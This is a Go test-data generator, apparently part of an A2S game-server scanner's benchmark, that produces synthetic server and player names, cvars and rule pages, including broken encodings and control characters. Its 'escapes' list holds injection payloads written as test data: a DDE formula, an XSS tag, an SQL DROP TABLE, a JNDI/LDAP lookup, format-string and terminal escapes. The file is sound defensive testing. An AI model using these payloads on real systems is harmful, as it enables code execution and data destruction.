package fleet

import (
	"bytes"
	"strconv"

	"github.com/a2sscan/a2sscan/bench/fleet/internal/random"
)

// nameLimit is where the Steam SDK cuts a server's name, in the middle of a
// character if need be (EC-40).
const nameLimit = 63

var (
	clans = []string{"[EU]", "[RU]", "skial.com", "=F|A=", "BRASIL", "uwu", "Mutiny", "24/7",
		"[GER]", "Old School", "NoPing", "Zombie Haven", "#1", "Public", "Valve"}
	themes = []string{"Dust2 only", "Fun Server", "No Lag", "DarkRP", "Instant Respawn", "128 tick",
		"2x Vanilla", "Deathmatch", "Trade", "Surf Beginner", "Community", "Noobs welcome", "PvP", "Roleplay"}

	wideNames = []string{
		"Сервер для своих | Москва", "Только Dust2 · без лагов", "中国社区服 上海 32人", "【日本】サバイバル鯖",
		"한국 공식 서버 #1", "خادم عربي للمبتدئين", "🔥 2× LOOT 🔥 MONDAY WIPE 💀", "Ελληνικός server — καλώς ήρθατε",
		"Ünïcødé Tëst", "שרת ישראלי", "Zażółć gęślą jaźń", "👩‍👩‍👧‍👦 family friendly ❤️",
	}
	brokenNames = []string{
		"\xd1\xe5\xf0\xe2\xe5\xf0 \xd0\xee\xf1\xf1\xe8\xff",             // CP1251
		"\xd6\xd0\xb9\xfa\xb7\xfe\xce\xf1\xc6\xf7 CS1.6",                // GBK
		"half a character \xe4\xb8", "\xff\xfe raw", "\xc0\xafoverlong", // UTF-8 that is none
		"\xed\xa0\x80surrogate\xf5\x80\x80\x80", "tail \xf0\x9f\x94", "\x80\x80\x80",
	}
	controlNames = []string{
		"\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01   skial.com | 2FORT", // EC-38
		"^1Red ^7and\twhite\r\n", "\x1b[31mred\x1b[0m alert", "bell\x07 back\x08space", "del\x7f",
		"quote\" back\\slash </script>", "\u202eevil\u202c bidi", "c1 \u009b31m",
	}

	playerNames = constants(
		"[D]---->T.N.W<----", "Killer !!!", "xX_Sniper_Xx", "unnamed", "Player", "(1)Player", "Вася", "Kemal",
		"小明", "ゆき", "Gordon", "noob.exe", "João", "🔥ace🔥", "a", "| clan | leader", "Shipmate", "LandLubber",
		"Алексей", "Łukasz", "dr. \"quote\"", "back\\slash", "^3yellow", "\xcf\xf0\xe8\xe2\xe5\xf2", "bob", "Max Players",
	)
)

// Texts of optional fields.
var (
	sourceTV     = []byte("SourceTV")
	leftover     = []byte("\x00\x00extra")
	modURLs      = constants("www.counter-strike.net", "http://example.org/mod", "")
	modDownloads = constants("", "http://example.org/get")
)

// appendName appends a server's name: mostly plain, but of every sort that is
// found in the wild.
func appendName(dst []byte, r *random.Stream) []byte {
	start := len(dst)
	switch at := r.Below(100); {
	case at < 62:
		return appendPlainName(dst, r)
	case at < 78:
		return append(dst, random.Pick(r, wideNames)...)
	case at < 84:
		for len(dst)-start < nameLimit {
			dst = append(dst, random.Pick(r, wideNames)...)
			dst = append(dst, ' ')
		}
		return dst[:start+nameLimit]
	case at < 89:
		return append(dst, random.Pick(r, brokenNames)...)
	case at < 94:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 96:
		return dst // empty
	case at < 98:
		return appendLongName(dst, r)
	}
	return append(append(dst, "   "...), random.Pick(r, clans)...) // EC-39
}

func appendPlainName(dst []byte, r *random.Stream) []byte {
	dst = append(append(dst, random.Pick(r, clans)...), ' ')
	dst = append(append(dst, random.Pick(r, themes)...), " #"...)
	return strconv.AppendInt(dst, int64(r.Below(10000)), 10)
}

// appendLongName appends 200 to 2000 bytes (EC-53).
func appendLongName(dst []byte, r *random.Stream) []byte {
	n := 200
	if r.OneIn(8) {
		n = 2000
	}
	for n += len(dst); len(dst) < n; {
		dst = append(appendPlainName(dst, r), ' ')
	}
	return dst
}

// appendPlayerName appends the name of a player.
func appendPlayerName(dst []byte, r *random.Stream) []byte {
	switch at := r.Below(100); {
	case at < 3:
		return dst // a slot that is connecting (EC-80)
	case at < 5:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 6:
		return append(dst, bytes.Repeat([]byte("W"), 31)...)
	case at < 60:
		return append(dst, random.Pick(r, playerNames)...)
	}
	dst = append(append(dst, random.Pick(r, playerNames)...), '.')
	return strconv.AppendInt(dst, int64(r.Below(1000)), 10)
}

// constants makes texts of strings, to be read only: they are part of the
// contents of all servers.
func constants(ss ...string) (texts [][]byte) {
	for _, s := range ss {
		texts = append(texts, []byte(s))
	}
	return texts
}

// cvars are rules as servers of all engines have them.
var cvars = constants(
	"_tutor_bomb_viewable_check_interval", "allow_spectators", "amx_nextmap", "amx_timeleft", "amxmodx_version",
	"bot_quota", "coop", "deathmatch", "decalfrequency", "edgefriction", "hostage_debug", "metamod_version",
	"mp_allowmonsters", "mp_autokick", "mp_autoteambalance", "mp_buytime", "mp_c4timer", "mp_chattime",
	"mp_consistency", "mp_falldamage", "mp_flashlight", "mp_footsteps", "mp_forcecamera", "mp_fraglimit",
	"mp_freezetime", "mp_friendlyfire", "mp_hostagepenalty", "mp_limitteams", "mp_logdetail", "mp_maxrounds",
	"mp_roundtime", "mp_startmoney", "mp_timelimit", "mp_winlimit", "nextlevel", "pausable", "r_AirboatViewDampenDamp",
	"sm_nextmap", "sourcemod_version", "sv_accelerate", "sv_aim", "sv_airaccelerate", "sv_alltalk", "sv_bounce",
	"sv_cheats", "sv_contact", "sv_footsteps", "sv_friction", "sv_gravity", "sv_logblocks", "sv_maxrate",
	"sv_maxspeed", "sv_password", "sv_proxies", "sv_rollangle", "sv_specaccelerate", "sv_stepsize",
	"sv_stopspeed", "sv_tags", "sv_uploadmax", "sv_voiceenable", "sv_wateraccelerate", "tf_arena_max_streak", "tv_enable",
)

var cvarValues = constants(
	"0", "1", "0", "1", "800", "0.5", "75", "25000", "", "de_dust2", "1.12.0.7163", "-1", "100", "60",
	"https://example.org/rules?id=1&lang=en", "00:00", "Добро пожаловать", "\"quoted\"", "sm,mm,cp",
	"\xcf\xf0\xe0\xe2\xe8\xeb\xe0", "a\ttab", "320", "0.000000", "10.0",
)

// appendRuleName appends the name of rule i, beyond the usual ones.
func appendRuleName(dst []byte, i int) []byte {
	dst = strconv.AppendInt(append(dst, "sm_plugin_"...), int64(i), 10)
	return append(dst, "_version"...)
}

// hostileText makes a text of escape sequences around a word: colours, a title,
// a cleared screen, bidirectional overrides, C1 controls, a formula, markup.
func hostileText(dst []byte, r *random.Stream, word []byte) []byte {
	dst = append(dst, random.Pick(r, escapes)...)
	dst = append(dst, word...)
	return append(dst, random.Pick(r, escapes)...)
}

var escapes = []string{
	"\x1b[2J\x1b[1;1H", "\x1b]0;owned\x07", "\x1b[31;1m", "\x1b]8;;http://example.org\x1b\\", "\x9b31m",
	"\u202e", "\u2066\u2069", "\u009b2J", "=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "'; DROP TABLE servers; --",
	"\r\n{\"schema\":1}\r\n", "\x08\x08\x08", "\ufeff\u200b", "%s%n%x", "${jndi:ldap://example.org}", "\"},\"status\":\"ok",
}

// maxPages is how many binary pages a list of rules begins with at most.
const maxPages = 7

// appendPage appends a rule as Arma 3 servers have them: the name is page and
// number of pages, the value up to 127 bytes of anything but 0 (EC-101).
func appendPage(dst []byte, r *random.Stream, i, of int) []byte {
	dst = append(dst, byte(i+1), byte(of))
	for range r.Between(40, 127) {
		dst = append(dst, byte(1+r.Below(255)))
	}
	return dst
}
